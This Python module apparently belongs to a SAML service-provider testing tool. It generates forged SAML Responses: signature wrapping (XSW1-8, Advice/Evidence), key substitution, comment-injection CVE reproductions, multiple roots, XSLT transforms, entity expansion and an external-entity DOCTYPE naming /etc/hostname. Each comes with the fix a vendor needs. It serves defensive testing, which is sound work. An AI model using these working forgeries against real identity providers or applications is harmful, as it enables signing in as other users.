"""Forged SAML Responses a correct SP must refuse (issues 8 and 15): each made from a Response
the tenant really issued for the attacker's own account, changed the way the attack needs to
sign in the victim instead; each known bypass class named with the CVE it reproduces."""

from __future__ import annotations

import base64
import copy
import hashlib
from collections.abc import Callable
from dataclasses import dataclass
from datetime import timedelta
from functools import cache

import xmlsec
from cryptography.hazmat.primitives.asymmetric import rsa
from lxml import etree

from mock_idp.certificates import SigningCertificate
from mock_idp.xml_signing import SigningKey, load_key, sign_enveloped
from mock_kernel.clock import parse_instant, saml_instant

SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
DS = "http://www.w3.org/2000/09/xmldsig#"
XSL = "http://www.w3.org/1999/XSL/Transform"


@dataclass
class Forgery:
    """One check: a Response to post to the ACS and what a correct SP does with it."""

    name: str
    description: str
    expect: str  # "refuse", "refuse-if-…" (see CATALOGUE) or "informational"
    saml_response: str  # base64, as posted
    victim: str  # the user the attack tries to sign in as: the verdict reads who got in
    document: bytes = b""  # the decoded forged Response, saved beside the report


@dataclass
class Material:
    """A Response as the tenant issued it for this SP, and the key that signed it."""

    xml: bytes
    idp_key: SigningKey
    algorithm: str = "sha256"


@cache
def attacker_certificate() -> SigningCertificate:
    """A certificate with Entra's subject that no SP was ever given."""
    from mock_kernel.clock import Clock

    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    return SigningCertificate.create(key, Clock().now())


def attacker_key() -> SigningKey:
    certificate = attacker_certificate()
    return load_key(certificate.private_key_pem, certificate.pem)


def encode(root: etree._Element | bytes) -> str:
    data = root if isinstance(root, bytes) else etree.tostring(root)
    return base64.b64encode(data).decode()


def parse(material: Material) -> etree._Element:
    return etree.fromstring(material.xml)


def assertion_of(root: etree._Element) -> etree._Element:
    found = root.find(f"{{{SAML}}}Assertion")
    if found is None:
        raise ValueError("the Response has no Assertion")
    return found


def strip_signatures(element: etree._Element) -> None:
    for signature in list(element.iter(f"{{{DS}}}Signature")):
        signature.getparent().remove(signature)


def resign_assertion(root: etree._Element, key: SigningKey, algorithm: str = "sha256") -> None:
    """Sign the (changed) assertion again, right after its Issuer, as Entra places it."""
    assertion = assertion_of(root)
    for signature in assertion.findall(f"{{{DS}}}Signature"):
        assertion.remove(signature)
    sign_enveloped(assertion, key, algorithm, insert_after=assertion[0])  # type: ignore[arg-type]


def name_id(root: etree._Element) -> etree._Element:
    found = root.find(f"{{{SAML}}}Assertion/{{{SAML}}}Subject/{{{SAML}}}NameID")
    if found is None:
        raise ValueError("the Assertion has no NameID")
    return found


def evil_copy(assertion: etree._Element, evil_user: str, new_id: bool = True) -> etree._Element:
    evil = copy.deepcopy(assertion)
    strip_signatures(evil)
    if new_id:
        evil.set("ID", "_evil" + assertion.get("ID", "")[1:])
    for node in evil.iter(f"{{{SAML}}}NameID"):
        node.text = evil_user
    for value in evil.iter(f"{{{SAML}}}AttributeValue"):
        if "@" in (value.text or ""):
            value.text = evil_user
    return evil


def shift_times(root: etree._Element, by: timedelta) -> None:
    for element in root.iter():
        for attribute in ("IssueInstant", "NotBefore", "NotOnOrAfter", "AuthnInstant"):
            if attribute in element.attrib:
                element.set(attribute, saml_instant(parse_instant(element.get(attribute, "")) + by))


def set_everywhere(root: etree._Element, attribute: str, value: str) -> None:
    for element in root.iter():
        if attribute in element.attrib:
            element.set(attribute, value)


def set_identity(root: etree._Element, user: str) -> None:
    """The NameID and every attribute value naming the same user now name `user` (Entra sends
    the UPN as NameID and again as the name / emailaddress claims)."""
    current = (name_id(root).text or "").lower()
    for node in [*root.iter(f"{{{SAML}}}NameID"), *root.iter(f"{{{SAML}}}AttributeValue")]:
        if (node.text or "").lower() == current:
            node.text = user


def exc_c14n(element: etree._Element) -> bytes:
    return etree.tostring(element, method="c14n", exclusive=True, with_comments=False)


def enveloped_digest(element: etree._Element, algorithm: str) -> str:
    """The DigestValue of `element` under the enveloped-signature and exc-c14n transforms."""
    unsigned = copy.deepcopy(element)
    for signature in unsigned.findall(f"{{{DS}}}Signature"):
        unsigned.remove(signature)
    return base64.b64encode(hashlib.new(algorithm, exc_c14n(unsigned)).digest()).decode()


Mutation = Callable[[Material, str], etree._Element | bytes]


def _signature_stripped(m: Material, evil: str) -> etree._Element:
    root = parse(m)
    strip_signatures(root)
    set_identity(root, evil)
    return root


def _response_only_signed(m: Material, evil: str) -> etree._Element:
    root = parse(m)
    strip_signatures(root)
    set_identity(root, evil)
    sign_enveloped(root, m.idp_key, m.algorithm, insert_after=root[0])  # type: ignore[arg-type]
    return root


def _unsigned_second_assertion(m: Material, evil: str) -> etree._Element:
    root = parse(m)
    assertion_of(root).addnext(evil_copy(assertion_of(root), evil))
    return root


def _xsw(variant: int) -> Mutation:
    """Signature wrapping (XSW1-8, the SAML Raider catalogue): the signed original stays where
    the signature's Reference finds it, an evil copy sits where a naive SP reads."""

    def mutate(m: Material, evil: str) -> etree._Element:
        root = parse(m)
        original = assertion_of(root)
        signature = original.find(f"{{{DS}}}Signature")
        if variant in (1, 2):
            # Response-level wrapping: an evil Response whose signed original hides in the
            # Signature (1) or before it (2); needs a Response signature to wrap.
            strip_signatures(root)
            sign_enveloped(root, m.idp_key, m.algorithm, insert_after=root[0])  # type: ignore[arg-type]
            wrapper = copy.deepcopy(root)
            response_signature = wrapper.find(f"{{{DS}}}Signature")
            wrapper.set("ID", "_evil" + root.get("ID", "")[1:])
            evil_assertion = evil_copy(assertion_of(wrapper), evil, new_id=False)
            assertion_of(wrapper).getparent().replace(assertion_of(wrapper), evil_assertion)
            if variant == 1:
                holder = etree.SubElement(response_signature, f"{{{DS}}}Object")
                holder.append(root)
            else:
                response_signature.addprevious(root)
            return wrapper
        evil_assertion = evil_copy(original, evil, new_id=variant not in (5, 6, 8))
        if variant == 3:
            original.addprevious(evil_assertion)
        elif variant == 4:
            original.getparent().replace(original, evil_assertion)
            evil_assertion.append(original)
        elif variant == 5:
            # The evil copy keeps the original ID and the original signature; the untouched
            # original moves to the end of the Response.
            evil_assertion.insert(1, copy.deepcopy(signature))
            original.getparent().replace(original, evil_assertion)
            root.append(original)
            strip_signatures(original)
            original.insert(1, signature)
        elif variant == 6:
            moved_signature = copy.deepcopy(signature)
            evil_assertion.insert(1, moved_signature)
            original.getparent().replace(original, evil_assertion)
            holder = etree.SubElement(moved_signature, f"{{{DS}}}Object")
            holder.append(original)
        elif variant == 7:
            extensions = etree.Element(f"{{{SAMLP}}}Extensions")
            root.insert(1, extensions)
            original.getparent().replace(original, evil_assertion)
            extensions.append(original)
        else:  # 8
            moved_signature = copy.deepcopy(signature)
            evil_assertion.insert(1, moved_signature)
            original.getparent().replace(original, evil_assertion)
            holder = etree.SubElement(moved_signature, f"{{{DS}}}Object")
            strip_signatures(original)
            holder.append(original)
        return root

    return mutate


def _other_key(m: Material, evil: str) -> etree._Element:
    """Signed with a key the SP was never given, the real certificate left in KeyInfo."""
    root = parse(m)
    real = root.findtext(f".//{{{DS}}}X509Certificate")
    set_identity(root, evil)
    resign_assertion(root, attacker_key(), m.algorithm)
    for node in root.iter(f"{{{DS}}}X509Certificate"):
        node.text = real
    return root


def _embedded_certificate(m: Material, evil: str) -> etree._Element:
    """Signed by the attacker, whose certificate is in the message: an SP that verifies with
    the KeyInfo certificate instead of its configured one accepts it."""
    root = parse(m)
    set_identity(root, evil)
    resign_assertion(root, attacker_key(), m.algorithm)
    return root


def _resigned(change: Callable[[etree._Element], None]) -> Mutation:
    """Changed, then signed again with the IdP's real key: only the SP's own checks catch it."""

    def mutate(m: Material, evil: str) -> etree._Element:
        root = parse(m)
        set_identity(root, evil)  # the victim's own assertion, as the attacker captured it
        change(root)
        resign_assertion(root, m.idp_key, m.algorithm)
        return root

    return mutate


def _audience(root: etree._Element) -> None:
    for audience in root.iter(f"{{{SAML}}}Audience"):
        audience.text = "https://attacker.example.com"


def _recipient(root: etree._Element) -> None:
    set_everywhere(root, "Recipient", "https://attacker.example.com/acs")


def _destination(root: etree._Element) -> None:
    root.set("Destination", "https://attacker.example.com/acs")


def _in_response_to(root: etree._Element) -> None:
    root.set("InResponseTo", "_never-requested")
    for data in root.iter(f"{{{SAML}}}SubjectConfirmationData"):
        data.set("InResponseTo", "_never-requested")


def _issuer(root: etree._Element) -> None:
    for issuer in root.iter(f"{{{SAML}}}Issuer"):
        issuer.text = "https://sts.windows.net/00000000-0000-0000-0000-000000000000/"


def _failure_status(root: etree._Element) -> None:
    code = root.find(f"{{{SAMLP}}}Status/{{{SAMLP}}}StatusCode")
    code.set("Value", "urn:oasis:names:tc:SAML:2.0:status:Requester")
    etree.SubElement(
        code,
        f"{{{SAMLP}}}StatusCode",
        Value="urn:oasis:names:tc:SAML:2.0:status:RequestDenied",
    )


def _comment_in_name_id(m: Material, evil: str) -> etree._Element:
    """CVE-2017-11427: the IdP signs the attacker's own account, victim@contoso.com.evil.example;
    the attacker inserts a comment, victim@contoso.com<!---->.evil.example, which exclusive c14n
    ignores, so the signature still verifies; an SP that reads only the first text node of the
    NameID or of an identity attribute signs in the victim."""
    root = parse(m)
    set_identity(root, evil)
    victim = evil.lower()
    for node in [name_id(root), *root.iter(f"{{{SAML}}}AttributeValue")]:
        if (node.text or "").lower() == victim:
            comment = etree.Comment("")
            comment.tail = ".evil.example"
            node.append(comment)
    resign_assertion(root, m.idp_key, m.algorithm)  # the IdP's signature over the attacker's name
    return root


def _without_declaration(document: bytes) -> bytes:
    return document.split(b"?>", 1)[-1] if document.startswith(b"<?xml") else document


def _doctype(m: Material, evil: str) -> bytes:
    """The attacker's own legitimate Response under a DOCTYPE declaring an external entity that
    nothing uses: it tells whether the SP's parser takes DTDs at all, not whether it expands."""
    doctype = b'<!DOCTYPE Response [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>'
    return doctype + _without_declaration(m.xml)


def _entity_expansion(m: Material, evil: str) -> bytes:
    """The NameID and the name claims are an entity reference, &who;, declared in the message's
    DTD as the victim; the signature covers the expanded text. Only an SP whose parser expands
    entities from the message reads the victim (and an SP that does is open to entity tricks
    in any value it reads); one that refuses DTDs, or keeps the reference, refuses it."""
    root = parse(m)
    set_identity(root, evil)
    resign_assertion(root, m.idp_key, m.algorithm)
    body = etree.tostring(root).replace(f">{evil}<".encode(), b">&who;<")
    tag = root.tag.split("}")[-1]
    name = f"{root.prefix}:{tag}" if root.prefix else tag
    doctype = f'<!DOCTYPE {name} [<!ENTITY who "{evil}">]>'.encode()
    return doctype + body


def _xslt(m: Material, evil: str) -> etree._Element:
    """The assertion signed again by the IdP's key with an XSLT Transform (an identity stylesheet)
    between the enveloped and exc-c14n ones, so the transform is the only fault: an SP that
    accepts it runs XSLT named by the message, and an attacker's stylesheet (file reads, SSRF)
    runs before any signature check can fail (W3C XML Signature Best Practices: avoid XSLT)."""
    root = parse(m)
    set_identity(root, evil)
    assertion = assertion_of(root)
    strip_signatures(assertion)
    sign_method, digest = {
        "sha256": (xmlsec.Transform.RSA_SHA256, xmlsec.Transform.SHA256),
        "sha1": (xmlsec.Transform.RSA_SHA1, xmlsec.Transform.SHA1),
    }[m.algorithm]
    signature = xmlsec.template.create(
        etree.Element("holder"), xmlsec.Transform.EXCL_C14N, sign_method
    )
    reference = xmlsec.template.add_reference(signature, digest, uri="#" + assertion.get("ID", ""))
    xmlsec.template.add_transform(reference, xmlsec.Transform.ENVELOPED)
    transform = xmlsec.template.add_transform(reference, xmlsec.Transform.XSLT)
    stylesheet = etree.SubElement(transform, f"{{{XSL}}}stylesheet", version="1.0")
    copy_all = etree.SubElement(stylesheet, f"{{{XSL}}}template", match="@*|node()")
    etree.SubElement(
        etree.SubElement(copy_all, f"{{{XSL}}}copy"),
        f"{{{XSL}}}apply-templates",
        select="@*|node()",
    )
    xmlsec.template.add_transform(reference, xmlsec.Transform.EXCL_C14N)
    key_info = xmlsec.template.ensure_key_info(signature)
    xmlsec.template.x509_data_add_certificate(xmlsec.template.add_x509_data(key_info))
    assertion[0].addnext(signature)  # after the Issuer, where Entra puts its signature
    context = xmlsec.SignatureContext()
    context.register_id(assertion, "ID")
    context.key = m.idp_key.xmlsec_key()
    context.sign(signature)
    return root


def _sha1(m: Material, evil: str) -> etree._Element:
    root = parse(m)
    set_identity(root, evil)
    resign_assertion(root, m.idp_key, "sha1")
    return root


def _duplicate_ids(m: Material, evil: str) -> etree._Element:
    root = parse(m)
    assertion_of(root).addnext(evil_copy(assertion_of(root), evil, new_id=False))
    return root


def _comment_in_digest_value(m: Material, evil: str) -> etree._Element:
    """CVE-2025-29775 (xml-crypto <= 6.0.0, 3.2.0, 2.1.5): the assertion changed to the victim,
    its new digest written as a comment before the signed DigestValue text. Exclusive c14n
    drops comments, so SignedInfo and its SignatureValue still verify; a verifier that reads
    the DigestValue's first child (the comment) compares the digest of the changed content."""
    root = parse(m)
    set_identity(root, evil)
    assertion = assertion_of(root)
    digest_value = assertion.find(f"{{{DS}}}Signature/{{{DS}}}SignedInfo//{{{DS}}}DigestValue")
    if digest_value is None:
        raise ValueError("the Assertion is not signed")
    comment = etree.Comment(enveloped_digest(assertion, m.algorithm))
    comment.tail = digest_value.text
    digest_value.text = None
    digest_value.insert(0, comment)
    return root


def _second_signed_info(m: Material, evil: str) -> etree._Element:
    """CVE-2025-29774 (xml-crypto <= 6.0.0, 3.2.0, 2.1.5), the shape of xml-crypto's own test
    saml_wrapped_signed_info_node.xml: the IdP's Signature moves into an evil Assertion for the
    victim; a second SignedInfo, wrapped in an element before the signed one, holds a Reference
    to the evil Assertion with its digest; the original Assertion (what the signed SignedInfo
    references) is hidden at the end of the Response. A verifier that checks the SignatureValue
    over the first direct SignedInfo but collects References from every SignedInfo finds both
    digests right and takes the evil Assertion as signed."""
    root = parse(m)
    original = assertion_of(root)
    signature = original.find(f"{{{DS}}}Signature")
    if signature is None:
        raise ValueError("the Assertion is not signed")
    original.remove(signature)
    evil_assertion = evil_copy(original, evil)
    original.getparent().replace(original, evil_assertion)
    hidden = etree.SubElement(root, "Wrapper")
    hidden.append(original)
    evil_assertion[0].addnext(signature)
    fake = copy.deepcopy(signature.find(f"{{{DS}}}SignedInfo"))
    reference = fake.find(f"{{{DS}}}Reference")
    reference.set("URI", "#" + evil_assertion.get("ID", ""))
    reference.find(f"{{{DS}}}DigestValue").text = enveloped_digest(evil_assertion, m.algorithm)
    wrapper = etree.Element("Wrapper")
    wrapper.append(fake)
    signature.insert(0, wrapper)
    return root


def _multiple_roots(m: Material, evil: str) -> bytes:
    """CVE-2022-39299 (passport-saml < 3.2.2, node-saml < 4.0.0-beta.5): a document of two root
    elements. The first is a Response the IdP signed (here without an Assertion, as Entra signs
    its error Responses); the second a Response with an unsigned Assertion for the victim. A
    parser that tolerates the second root verifies the first and reads the Assertion of the
    second; a conforming XML parser refuses the document (XML 1.0 §2.1: one root element)."""
    signed = parse(m)
    signed.remove(assertion_of(signed))
    strip_signatures(signed)
    sign_enveloped(signed, m.idp_key, m.algorithm, insert_after=signed[0])  # type: ignore[arg-type]
    forged = parse(m)
    strip_signatures(forged)
    set_identity(forged, evil)
    forged.set("ID", "_evil" + forged.get("ID", "")[1:])
    return etree.tostring(signed) + etree.tostring(forged)


def _key_value_in_document(m: Material, evil: str) -> etree._Element:
    """CVE-2021-21239 / CVE-2021-21238 (pysaml2 < 6.5.0 with xmlsec1): the victim's assertion
    signed by the attacker, whose public key travels in KeyInfo/KeyValue/RSAKeyValue; a verifier
    that lets the document name its key (xmlsec1 without --enabled-key-data x509) accepts it."""
    root = parse(m)
    set_identity(root, evil)
    key = attacker_key()
    resign_assertion(root, key, m.algorithm)
    numbers = key.private_key.public_key().public_numbers()

    def b64(number: int) -> str:
        return base64.b64encode(number.to_bytes((number.bit_length() + 7) // 8, "big")).decode()

    key_info = assertion_of(root).find(f"{{{DS}}}Signature/{{{DS}}}KeyInfo")
    for child in list(key_info):
        key_info.remove(child)
    rsa_value = etree.SubElement(
        etree.SubElement(key_info, f"{{{DS}}}KeyValue"), f"{{{DS}}}RSAKeyValue"
    )
    etree.SubElement(rsa_value, f"{{{DS}}}Modulus").text = b64(numbers.n)
    etree.SubElement(rsa_value, f"{{{DS}}}Exponent").text = b64(numbers.e)
    return root


def _wrapped_in(holder: str) -> Mutation:
    """Signature wrapping into a SAML element that may hold whole Assertions (SAML Core §2.6.1
    Advice, §2.7.4.3 Evidence): an evil Assertion for the victim in the signed one's place, the
    untouched signed original inside it. An SP that finds "a signed Assertion" anywhere below
    the Response and reads the first one accepts it."""

    def mutate(m: Material, evil: str) -> etree._Element:
        root = parse(m)
        original = assertion_of(root)
        evil_assertion = evil_copy(original, evil)
        original.getparent().replace(original, evil_assertion)
        if holder == "Advice":
            advice = etree.Element(f"{{{SAML}}}Advice")
            conditions = evil_assertion.find(f"{{{SAML}}}Conditions")
            (conditions if conditions is not None else evil_assertion[0]).addnext(advice)
            advice.append(original)
        else:
            statement = etree.SubElement(
                evil_assertion,
                f"{{{SAML}}}AuthzDecisionStatement",
                Resource="urn:resource",
                Decision="Permit",
            )
            etree.SubElement(statement, f"{{{SAML}}}Action").text = "read"
            etree.SubElement(statement, f"{{{SAML}}}Evidence").append(original)
        return root

    return mutate


def _other_application(root: etree._Element) -> None:
    """As Entra issues it for another application of the same tenant, signed with the same key
    (a tenant that uploaded one signing certificate for several apps)."""
    _audience(root)
    _recipient(root)
    _destination(root)


@dataclass(frozen=True)
class Attack:
    """One forgery of the catalogue, and what a vendor reads about it in the report."""

    summary: str  # the attack in one sentence
    mutate: Mutation
    expect: str = "refuse"
    cve: str = ""  # the CVEs (and libraries) this reproduces
    why: str = "a forged or misdirected message signs in someone who did not authenticate"
    fix: str = "keep the SAML library current and its strict settings on"


# The anchor in docs/external-targets.md that explains each check.
DOCS = "docs/external-targets.md#check-"

WRAPPING_FIX = (
    "read the identity only from the element the verified signature's Reference points to "
    "(or from the bytes the verifier returns); refuse a Response with more than one Assertion"
)
KEY_FIX = (
    "verify with the certificate configured for the IdP only; never take a key, certificate "
    "or key name from the message (xmlsec1: --enabled-key-data x509 and a trusted key file)"
)

CATALOGUE: dict[str, Attack] = {
    "signature-stripped": Attack(
        "every Signature removed and the identity changed to the victim",
        _signature_stripped,
        why="anyone can write an unsigned Response: without a signature check, anyone is anyone",
        fix="require a valid signature on the Assertion (or the Response) on every message",
    ),
    # Refused by an SP that wants signed assertions (metadata WantAssertionsSigned="true").
    "response-signed-only": Attack(
        "only the Response signed by the IdP, the Assertion inside unsigned",
        _response_only_signed,
        "refuse-if-assertion-signature-required",
        why="an SP that says WantAssertionsSigned must not settle for a Response signature",
        fix="require the Assertion's own signature, as the SP's metadata promises",
    ),
    "unsigned-second-assertion": Attack(
        "an unsigned Assertion for the victim after the signed one",
        _unsigned_second_assertion,
        why="the SP may verify one Assertion and read another",
        fix="refuse a Response with more than one Assertion",
    ),
    **{
        f"xsw{i}": Attack(
            f"signature wrapping XSW{i} (the SAML Raider catalogue): the signed original moved "
            "aside, an evil copy for the victim where the SP reads",
            _xsw(i),
            cve="CVE-2025-47949 (samlify < 2.10.0), CVE-2024-45409 (ruby-saml), "
            "CVE-2016-5697 (ruby-saml)",
            why="the element whose signature verifies is not the element the SP reads",
            fix=WRAPPING_FIX,
        )
        for i in range(1, 9)
    },
    "wrapped-in-advice": Attack(
        "the signed original inside the Advice of an evil Assertion for the victim",
        _wrapped_in("Advice"),
        why="Advice may legally hold Assertions: a search for any signed Assertion finds it",
        fix=WRAPPING_FIX,
    ),
    "wrapped-in-evidence": Attack(
        "the signed original inside the Evidence of an evil Assertion's AuthzDecisionStatement",
        _wrapped_in("Evidence"),
        why="Evidence may legally hold Assertions: a search for any signed Assertion finds it",
        fix=WRAPPING_FIX,
    ),
    "second-signed-info": Attack(
        "a second SignedInfo, wrapped before the signed one, references an evil Assertion",
        _second_signed_info,
        cve="CVE-2025-29774 (xml-crypto <= 6.0.0 / 3.2.0 / 2.1.5: node-saml, samlify, "
        "passport-saml)",
        why="the verifier checks the SignatureValue over one SignedInfo and digests from another",
        fix="upgrade xml-crypto to 6.0.1 / 3.2.1 / 2.1.6 or later (and the SAML library with it)",
    ),
    "comment-in-digest-value": Attack(
        "the Assertion changed to the victim, its new digest as a comment inside DigestValue",
        _comment_in_digest_value,
        cve="CVE-2025-29775 (xml-crypto <= 6.0.0 / 3.2.0 / 2.1.5: node-saml, samlify, "
        "passport-saml)",
        why="the signed DigestValue text is not the value the digest is compared with",
        fix="upgrade xml-crypto to 6.0.1 / 3.2.1 / 2.1.6 or later (and the SAML library with it)",
    ),
    "multiple-roots": Attack(
        "two root elements: an IdP-signed Response, then one with an unsigned Assertion for "
        "the victim",
        _multiple_roots,
        cve="CVE-2022-39299 (passport-saml < 3.2.2, node-saml < 4.0.0-beta.5)",
        why="a lenient parser verifies one document and reads another",
        fix="upgrade passport-saml to 3.2.2+ / @node-saml/node-saml 4+; refuse non-well-formed XML",
    ),
    "key-value-in-document": Attack(
        "the victim's assertion signed by the attacker, the public key given in KeyValue",
        _key_value_in_document,
        cve="CVE-2021-21239, CVE-2021-21238 (pysaml2 < 6.5.0 with xmlsec1)",
        why="a key the message names is the attacker's key",
        fix=KEY_FIX + "; upgrade pysaml2 to 6.5.0 or later",
    ),
    "other-key": Attack(
        "signed with a key the SP was not given, the real certificate left in KeyInfo",
        _other_key,
        why="a signature is only worth the key it is checked with",
        fix=KEY_FIX,
    ),
    "embedded-certificate": Attack(
        "signed by the attacker, whose unchained certificate is in KeyInfo",
        _embedded_certificate,
        cve="CVE-2021-21239 class (a key taken from the document)",
        why="a certificate in the message proves nothing: anyone can make one",
        fix=KEY_FIX,
    ),
    "expired": Attack(
        "the victim's assertion issued 2 hours ago (beyond any skew)",
        _resigned(lambda r: shift_times(r, timedelta(hours=-2))),
        why="a captured old assertion would sign in again",
        fix="check NotOnOrAfter of Conditions and SubjectConfirmationData (5 minutes of skew)",
    ),
    "not-yet-valid": Attack(
        "the victim's assertion issued 15 minutes in the future (beyond 5 minutes of skew)",
        _resigned(lambda r: shift_times(r, timedelta(minutes=15))),
        why="the SP ignores NotBefore",
        fix="check NotBefore with at most 5 minutes of skew",
    ),
    "audience-mismatch": Attack(
        "the victim's assertion for another SP (Audience)",
        _resigned(_audience),
        why="any other SP of the IdP could replay its users' assertions here",
        fix="compare the Audience with the SP's own Identifier (Entity ID)",
    ),
    "recipient-mismatch": Attack(
        "the victim's assertion for another ACS (Recipient)",
        _resigned(_recipient),
        why="an assertion delivered to another ACS could be replayed here",
        fix="compare SubjectConfirmationData Recipient with the SP's ACS URL",
    ),
    "destination-mismatch": Attack(
        "the victim's Response for another ACS (Destination)",
        _resigned(_destination),
        why="a Response meant for another endpoint could be replayed here",
        fix="compare the Response's Destination with the ACS URL it arrived at",
    ),
    "other-application": Attack(
        "the victim's assertion as the tenant issues it for another application (Audience, "
        "Recipient and Destination of that app), signed with the same key",
        _resigned(_other_application),
        why="another app of the same tenant sharing the signing key could sign in here",
        fix="check Audience, Recipient and Destination; do not rely on the key alone",
    ),
    "in-response-to-mismatch": Attack(
        "InResponseTo names a request the SP never sent",
        _resigned(_in_response_to),
        why="a Response answering someone else's request is accepted",
        fix="accept an InResponseTo only for a request this SP sent (and only once)",
    ),
    "issuer-mismatch": Attack(
        "Issuer is another tenant",
        _resigned(_issuer),
        why="the SP does not check who issued the assertion",
        fix="compare the Issuer with the configured Microsoft Entra Identifier",
    ),
    "failure-status": Attack(
        "status Requester/RequestDenied with a signed Assertion for the victim",
        _resigned(_failure_status),
        why="the IdP said no, and the SP signed the user in",
        fix="refuse any Response whose top-level StatusCode is not Success",
    ),
    "doctype-accepted": Attack(
        "the attacker's own Response under a DOCTYPE (an external entity declared, unused)",
        _doctype,
        "informational",
        why="SAML messages never carry a DTD; a parser that takes one may expand entities "
        "(entity-expansion says whether it does)",
        fix="parse SAML with DTDs forbidden (defusedxml, lxml resolve_entities=False)",
    ),
    "entity-expansion": Attack(
        "the victim's name given as an entity from the message's DTD (&who;) in the NameID",
        _entity_expansion,
        why="the SP expands entities the sender declares: the identity is what the DTD says",
        fix="parse SAML with DTDs forbidden (defusedxml, lxml resolve_entities=False)",
    ),
    "xslt-transform": Attack(
        "an XSLT Transform in the signature (signed by the IdP)",
        _xslt,
        why="the SP runs a stylesheet the message names before any signature check can fail",
        fix="allow only the enveloped-signature and exclusive c14n transforms",
    ),
    "comment-in-nameid": Attack(
        "a comment inside the NameID: victim@contoso.com<!---->.evil.example",
        _comment_in_name_id,
        cve="CVE-2017-11427 (python3-saml < 1.4.0, python-saml < 2.4.0), CVE-2017-11428 "
        "(ruby-saml), CVE-2017-11429 (saml2-js), CVE-2017-11430 (OmniAuth-SAML)",
        why="the SP reads the first text node of the NameID: a comment cuts the name short",
        fix="read the whole text content of NameID and attributes; upgrade the library",
    ),
    "sha1": Attack(
        "signed with RSA-SHA1",
        _sha1,
        "refuse-if-sha256-required",
        why="SHA-1 is broken for signatures; an SP that lists RSA-SHA256 only must refuse it",
        fix="accept only the algorithms the SP's metadata lists (RSA-SHA256)",
    ),
    "duplicate-ids": Attack(
        "a sibling Assertion for the victim with the signed Assertion's ID",
        _duplicate_ids,
        why="the signature's Reference may resolve to one element and the SP read the other",
        fix="refuse a document with duplicate IDs; read the element the signature verified",
    ),
}


def forge(name: str, material: Material, victim: str) -> Forgery:
    """`name` made from `material` (a Response the IdP issued for the attacker), aimed at
    signing in `victim`."""
    attack = CATALOGUE[name]
    result = attack.mutate(material, victim)
    document = result if isinstance(result, bytes) else etree.tostring(result)
    return Forgery(name, attack.summary, attack.expect, encode(document), victim, document)
